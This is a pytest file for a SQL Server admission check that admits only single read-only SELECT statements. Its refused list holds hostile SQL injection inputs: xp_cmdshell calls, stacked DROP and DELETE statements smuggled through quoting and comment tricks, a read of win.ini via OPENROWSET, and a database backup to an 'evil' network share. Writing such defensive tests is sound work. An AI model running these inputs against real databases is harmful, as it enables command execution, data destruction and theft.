"""Only one reading statement passes to SQL Server."""

import pytest
from sqlalchemy.dialects.mssql.base import RESERVED_WORDS

from ombudsman.connections.sqlserver_admission import REFUSED_WORDS, admit
from ombudsman.model.errors import StatementInvalid

REFUSED = [
    "",
    "   ",
    "EXEC xp_cmdshell 'whoami'",
    "xp_cmdshell 'whoami'",
    "SELECT 1 DELETE FROM t",
    "SELECT 1 x DELETE FROM t",
    "SELECT 1 EXEC xp_cmdshell 'whoami'",
    "SELECT a FROM t\nDROP TABLE t",
    "SELECT * INTO t2 FROM t",
    "SELECT * INTO #t2 FROM t",
    "SELECT * FROM OPENROWSET('SQLNCLI','server=evil','select 1')",
    "SELECT * FROM OPENROWSET(BULK 'c:\\windows\\win.ini', SINGLE_CLOB) x",
    "SELECT * FROM OPENQUERY(srv,'delete from t output deleted.*')",
    "SELECT * FROM OPENDATASOURCE('SQLNCLI','Data Source=evil').db.dbo.t",
    "WITH c AS (SELECT TOP 1 * FROM t) DELETE FROM c",
    "SELECT * FROM (DELETE FROM t OUTPUT deleted.id) d",
    "SELECT * FROM t WITH (TABLOCKX, HOLDLOCK)",
    "SELECT * FROM t WITH (UPDLOCK)",
    "WAITFOR DELAY '00:10:00'",
    "IF 1=1 DROP TABLE t",
    "BEGIN SELECT 1; DELETE FROM t END",
    "DECLARE @s nvarchar(99)='drop table t'; EXEC(@s)",
    "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    "SELECT 1 SET LOCK_TIMEOUT -1",
    "SELECT 1 COMMIT",
    "SELECT 1 ROLLBACK",
    "USE master",
    "KILL 53",
    "SELECT 1 KILL 53",
    "SHUTDOWN",
    "BACKUP DATABASE d TO DISK='\\\\evil\\d.bak'",
    "BULK INSERT t FROM 'c:\\x'",
    "MERGE t USING s ON 1=1 WHEN MATCHED THEN DELETE;",
    "SELECT 1; SELECT 2",
    "SELECT 1;",
    "SELECT 'it''s'; DROP TABLE t",
    "SELECT 'a'' ; DROP TABLE t",
    "SELECT [a]]; DROP TABLE t",
    'SELECT "a; DROP TABLE t',
    "SELECT 1 -- DROP TABLE t",
    "SELECT 1 /* DROP TABLE t */",
    "SELECT 1 /* '*/ DELETE FROM t --'",
    "SELECT [x]]] FROM [t] DROP TABLE t",
]

ADMITTED = [
    "SELECT a FROM t",
    "  \n select 1",
    "WITH c AS (SELECT 1 a) SELECT * FROM c",
    "SELECT [delete], [into] FROM [dbo].[set]",
    "SELECT [a]] ; drop table t --] FROM t",
    "SELECT 'DROP TABLE t; -- it''s' AS x",
    "SELECT N'Łódź; DELETE' FROM t",
    'SELECT "update" FROM t',
    "SELECT a FROM t ORDER BY a OFFSET 3 ROWS FETCH NEXT 2 ROWS ONLY",
    "SELECT updated_at, deleted, into_stock, setting FROM t",
    "SELECT CASE WHEN a > 1 THEN 1 ELSE 2 END FROM t WHERE b LIKE '%[a-c]%'",
    "SELECT 'a' + CHAR(31) + [b] - 1 FROM t",
]


@pytest.mark.parametrize("sql", REFUSED)
def test_what_could_write_does_not_pass(sql: str):
    with pytest.raises(StatementInvalid) as told:
        admit(sql)
    assert told.value.context["sql"] == sql


@pytest.mark.parametrize("sql", ADMITTED)
def test_what_reads_passes(sql: str):
    admit(sql)


def test_a_name_that_is_a_refused_word_is_always_in_brackets():
    locks = {"paglock", "readcommittedlock", "repeatableread", "rowlock", "serializable"}
    locks |= {"tablock", "tablockx", "updlock", "xlock"}
    assert set(RESERVED_WORDS) >= REFUSED_WORDS - locks
